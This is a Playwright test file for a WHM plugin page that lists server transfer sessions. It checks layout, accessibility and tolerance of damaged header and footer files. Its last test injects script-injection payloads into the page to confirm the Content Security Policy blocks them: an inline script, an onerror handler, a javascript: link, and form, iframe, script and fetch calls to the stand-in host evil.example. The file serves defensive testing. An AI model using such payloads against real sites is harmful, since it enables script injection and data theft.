import { appendFileSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { writeChrome } from '../host/cpsrvd/chrome-files.ts';
import { IndexDatabase } from '../host/simulator/databases.ts';
import { planSession } from '../host/simulator/plan.ts';
import { type ScenarioName, writeScenario } from '../host/simulator/scenarios.ts';
import { removeFolder } from '../remove-folder.ts';
import { violationsOn } from './axe.ts';
import { closePages, startChromium } from './chromium.ts';
import { Whm } from './whm.ts';

/** Where to leave pictures of the session page in chrome; unset = none are taken. */
const PICTURES = process.env.CHROME_PICTURES;
const HEADERS = 'var/cpanel/caches/_generated_header_files';
const FOOTER = 'var/cpanel/caches/_generated_footer_files/footer.html';

let browser: Browser;
let whm: Whm;
let page: Page;
/** Errors of scripts, and what the policy stopped. */
const troubles: string[] = [];

beforeAll(async () => {
  browser = await startChromium();
  whm = await Whm.start();
  page = await browser.newPage();
  page.on('pageerror', (error) => troubles.push(String(error)));
  page.on('console', (message) => {
    if (message.type() === 'error') troubles.push(message.text());
  });
  await whm.open(page, '');
});
afterAll(async () => {
  await closePages(browser);
  await whm.stop();
});
afterEach(() => {
  troubles.length = 0;
});

/** Logged in all the time: the server puts the token into the address. */
async function open(query: string): Promise<void> {
  await page.goto(whm.server.pluginUrl(query));
}

function write(name: Exclude<ScenarioName, 'documented'>): string {
  return writeScenario(whm.root, name, { startedAt: Math.floor(Date.now() / 1000) - 3600 }).id;
}

/** What the chrome's own scripts have done: inline with the nonce, from a file, by eval, as a web component. */
const CHROME_AT_WORK = `(() => ({
  inline: window.STAND_IN?.inlineRan,
  file: window.STAND_IN?.scriptRan,
  eval: window.STAND_IN?.evalRan,
  component: document.querySelector('si-search input') !== null,
}))()`;

const ALL_AT_WORK = { inline: true, file: true, eval: true, component: true };

const STATES = ['running', 'paused', 'stalled', 'failed', 'clean', 'hostile', 'archived'] as const;

async function sessionIn(state: (typeof STATES)[number]): Promise<string> {
  switch (state) {
    case 'running': {
      const plan = planSession({ seed: state, accounts: 40, issueRate: 0.6, failureRate: 0.1 });
      return (await whm.play(plan, { speed: 2, headStartSeconds: 400 })).id;
    }
    case 'archived': {
      const id = write('deaths');
      await open(`session=${id}`);
      removeFolder(join(whm.root, 'var/cpanel/transfer_sessions', id));
      const index = new IndexDatabase(whm.root);
      index.remove(id);
      index.close();
      return id;
    }
    default:
      return write(state);
  }
}

/** Headings, names and places that a reader of WHM's pages expects once. */
const ONCE = `(() => {
  const seen = (part) => part.getClientRects().length > 0 && part.clientHeight > 1;
  const headings = [...document.querySelectorAll('h1')].filter(seen);
  return { headings: headings.map((heading) => heading.textContent), mains: document.querySelectorAll('main').length, skips: document.querySelectorAll('.tm-skip').length };
})()`;

const STICKS_OUT = `(() => {
  const root = document.getElementById('tm-root');
  return root.scrollWidth > root.clientWidth || root.getBoundingClientRect().right > innerWidth
    || document.documentElement.scrollWidth > innerWidth;
})()`;

describe.each(STATES)('the page of a session that is %s, inside the server’s chrome', (state) => {
  test('looks like one of its pages, wide and narrow', async () => {
    const query = `session=${await sessionIn(state)}`;
    for (const width of [1280, 360]) {
      await page.setViewportSize({ width, height: width === 360 ? 1500 : 1000 });
      await open(query);
      if (PICTURES !== undefined) {
        await page.screenshot({ path: join(PICTURES, `${state}-${width}.png`) });
      }
      expect(await page.evaluate(CHROME_AT_WORK)).toEqual(ALL_AT_WORK);
      // The tab's title says how far it is, and changes; the heading does not.
      expect(await page.title()).toContain(' · ');
      expect(await page.evaluate(ONCE)).toEqual({
        headings: [expect.stringMatching(/^(?:Transfer from )?\S+\.example\S*(?: to \S+)?$/)],
        mains: 1,
        skips: 0,
      });
      // Nor does our title stick out of the chrome's heading.
      expect(await page.evaluate(STICKS_OUT)).toBe(false);
      if (width === 1280) expect(await violationsOn(page)).toEqual([]);
    }
    expect(await page.evaluate('window.pwned ?? null')).toBeNull();
    expect(troubles).toEqual([]);
  });
});

test('the server’s heading is the only one on the other pages, too', async () => {
  await page.setViewportSize({ width: 1280, height: 1000 });
  const id = write('old');
  for (const query of [
    '',
    'account=nobody',
    `session=${id}&log=master.log`,
    `session=${id}&grep=x`,
    `session=${id}&compare=${write('deaths')}`,
    'session=none',
  ]) {
    for (const width of [1280, 360]) {
      await page.setViewportSize({ width, height: 1000 });
      await open(query);
      expect(await page.evaluate(ONCE), query).toMatchObject({ headings: [await page.title()] });
      expect(await page.evaluate(STICKS_OUT), `${query} at ${width} px`).toBe(false);
      if (PICTURES !== undefined) {
        await page.screenshot({
          path: join(PICTURES, `${encodeURIComponent(query)}-${width}.png`),
        });
      }
    }
  }
});

describe('chrome that is not whole never breaks the page', () => {
  const header = () =>
    join(whm.root, HEADERS, `standin${Buffer.from('root').toString('hex')}_0_0.html`);
  const footer = () => join(whm.root, FOOTER);
  const keys = () => join(whm.root, HEADERS, 'cache_keys.json');

  const cutHeader = (at: string, more: number) =>
    truncateSync(header(), readFileSync(header(), 'utf8').indexOf(at) + more);

  afterEach(() => writeChrome(whm.root, ['root']));

  test.each<[string, () => void]>([
    ['missing', () => removeFolder(join(whm.root, 'var/cpanel/caches'))],
    ['without keys', () => rmSync(keys())],
    ['with keys of another user', () => writeFileSync(keys(), '{"somebody":"else"}')],
    ['with half the keys', () => truncateSync(keys(), 9)],
    ['with an empty header', () => truncateSync(header())],
    ['with half a header', () => truncateSync(header(), 700)],
    ['with a header cut in its menu', () => cutHeader('Home</a>', 2)],
    ['with a header cut behind its menu', () => cutHeader('</nav>', 6)],
    ['with an empty footer', () => truncateSync(footer())],
    ['with half a footer', () => truncateSync(footer(), 20)],
    [
      'with the token of another login',
      () => appendFileSync(header(), '<a href="/cpsess1234567890/">'),
    ],
  ])('%s: a plain page of our own, finished and working', async (_, spoil) => {
    spoil();
    await open('');
    expect(await page.locator('body.tm-plain #tm-root').count()).toBe(1);
    expect(await page.locator('.si-body, si-search').count()).toBe(0);
    expect(await page.evaluate(ONCE)).toMatchObject({ headings: ['Transfer sessions'], mains: 1 });
    // Its style and its script are there.
    expect(
      await page.evaluate('getComputedStyle(document.querySelector("#tm-root")).maxWidth'),
    ).toBe('1480px');
    await page.locator('a[data-copy]').click();
    await page.locator('[data-connection] > span').waitFor();
    expect(troubles).toEqual([]);
  });

  test('with other words than those of this version: the page stands in it all the same', async () => {
    const old = readFileSync(header(), 'utf8')
      .replace('<h1 class="si-title page-header">Results of Your Request</h1>', '')
      .replaceAll(' nonce="00000000000"', '');
    writeFileSync(header(), old);
    await open('');
    expect(await page.evaluate(ONCE)).toMatchObject({ headings: ['Transfer sessions'], mains: 1 });
    // A script without the placeholder of the nonce is a stranger.
    expect(await page.evaluate(CHROME_AT_WORK)).toMatchObject({ file: true, eval: true });
    expect(await page.evaluate('window.STAND_IN.inlineRan ?? null')).toBeNull();
  });
});

test('the policy lets the chrome work and stops what a log could bring in', async () => {
  await open(`session=${write('pending')}`);
  const stopped = await page.evaluate<string[]>(`(async () => {
    const stopped = [];
    document.addEventListener('securitypolicyviolation', (event) => stopped.push(event.violatedDirective));
    const place = document.getElementById('tm-main');
    const script = document.createElement('script');
    script.textContent = 'window.pwned = "inline"';
    place.append(script);
    const box = document.createElement('div');
    box.innerHTML = '<img src="x" onerror="window.pwned = 1"><a href="javascript:window.pwned=2">x</a>'
      + '<form action="https://evil.example/"><button>x</button></form><base href="https://evil.example/">'
      + '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>';
    place.append(box);
    const far = document.createElement('script');
    far.src = 'https://evil.example/x.js';
    place.append(far);
    box.querySelector('button').click();
    await new Promise((resolve) => setTimeout(resolve, 100));
    box.querySelector('a').click();
    await fetch('https://evil.example/').catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 300));
    return [...new Set(stopped)].sort();
  })()`);
  expect(stopped).toEqual([
    'base-uri',
    'connect-src',
    'form-action',
    'frame-src',
    'object-src',
    'script-src-attr',
    'script-src-elem',
  ]);
  expect(await page.evaluate('window.pwned ?? null')).toBeNull();
  expect(await page.evaluate(CHROME_AT_WORK)).toEqual(ALL_AT_WORK);
});
